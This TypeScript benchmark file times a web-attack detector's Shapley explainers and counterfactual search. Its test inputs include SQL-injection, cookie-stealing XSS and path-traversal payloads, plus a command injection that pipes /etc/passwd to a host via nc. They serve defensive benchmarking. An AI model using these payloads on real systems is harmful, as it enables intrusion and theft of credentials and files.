import { readFile } from "node:fs/promises";
import { join } from "node:path";
import { parseBehaviour } from "../engine/detect/anomaly/behaviour-file.ts";
import { loadClassifier } from "../engine/detect/classifier/payload-model.ts";
import { findCounterfactual } from "../engine/explain/counterfactual.ts";
import { createScoreExplainer } from "../engine/explain/explain-score.ts";
import { createPathExplainer } from "../engine/explain/path-shapley.ts";
import { explainPayload } from "../engine/explain/payload-shares.ts";
import { createTreeExplainer } from "../engine/explain/shapley.ts";
import { resourcesDirectory } from "../entries.ts";
import { quantile } from "./bench-engine.ts";
import type { BenchGroup } from "./figure.ts";
import { timePythonShap } from "./python-shap.ts";
import { inventForest } from "./random-forest.ts";

function timed(times: number, action: (i: number) => void): number[] {
  return Array.from({ length: times }, (_, i) => {
    const from = performance.now();
    action(i);
    return performance.now() - from;
  });
}

/** Attacks of 15 to 8,000 characters, some escaped. */
function editedAttacks(): string[] {
  return Array.from({ length: 40 }, (_, i) => [
    `${i}' or ${i}=${i} -- `,
    `-${i}') union select ${i},name,concat(0x7171706a71,pw) from users_${i} where 1=1 and sleep(5)-- `,
    `<img src=x${i} onerror=alert(document.cookie)>`,
    `;cat /etc/passwd${i}|nc 10.0.0.${i} 4444`,
    encodeURIComponent(`"><svg/onload=confirm(${i})>../../../../etc/shadow`),
    `${"some ordinary words in between, ".repeat(i * 6)}' union all select null,null,user() -- `,
  ]).flat();
}

/**
 * Exact Shapley values: of an invented forest, beside Python's shap where it is installed, and of the deployed score over its 100
 * background sessions.
 */
export const group: BenchGroup = {
  name: "explain",
  async run(report) {
    const model = parseBehaviour(await readFile(join(resourcesDirectory, "model", "behaviour.json")));
    const from = performance.now();
    const explainer = createScoreExplainer(model, { payloadWeight: 0.6, tagThreshold: 0.5, simulateThreshold: 0.75 });
    report("explainer of the deployed model, made once", performance.now() - from, "ms");
    const rows = model.background;
    for (const row of rows) explainer.explain(row);
    const times = timed(300, (i) => explainer.explain(rows[i % rows.length]!));
    report("Shapley values of one session, p50", quantile(times, 0.5), "ms");
    report("Shapley values of one session, p95", quantile(times, 0.95), "ms", "< 5");

    const forest = inventForest(100, 100, 12, 40);
    const shape = "100 trees of depth 12, 100 leaves, 40 features";
    const path = createPathExplainer(forest.trees, forest.cover);
    for (const row of forest.rows) path.explain(row);
    const paths = timed(600, (i) => path.explain(forest.rows[i % forest.rows.length]!));
    report(`path-dependent Shapley values, ${shape}, p50`, quantile(paths, 0.5), "ms", "≤ 1");
    const interventional = createTreeExplainer(forest.trees, forest.rows.slice(0, 100));
    for (const row of forest.rows.slice(0, 50)) interventional.explain(row);
    const over = timed(200, (i) => interventional.explain(forest.rows[i % forest.rows.length]!));
    report(`interventional over 100 rows, ${shape}, p50`, quantile(over, 0.5), "ms");
    const classifier = loadClassifier(await readFile(join(resourcesDirectory, "model", "payload.bin")));
    const attacks = editedAttacks();
    for (const attack of attacks) findCounterfactual(classifier, attack, "query");
    // Thread time: the slowest of many is otherwise whichever was interrupted.
    const searches = attacks.map((attack) => {
      const from = process.threadCpuUsage();
      findCounterfactual(classifier, attack, "query");
      const { user, system } = process.threadCpuUsage(from);
      return (user + system) / 1000;
    });
    report("smallest edit that changes a payload's verdict, thread time, p50", quantile(searches, 0.5), "ms");
    report("smallest edit that changes a payload's verdict, thread time, slowest", Math.max(...searches), "ms", "< 50");
    const shares = timed(attacks.length, (i) => explainPayload(classifier, attacks[i]!, "query"));
    report("shares of a payload's stretches, p95", quantile(shares, 0.95), "ms");

    const python = await timePythonShap();
    if (python === null) console.error("explain  Python's shap: not present");
    else {
      report(`Python's shap, path-dependent, ${shape}, p50`, python.path, "ms");
      report(`Python's shap, interventional over 100 rows, ${shape}, p50`, python.interventional, "ms");
    }
  },
};
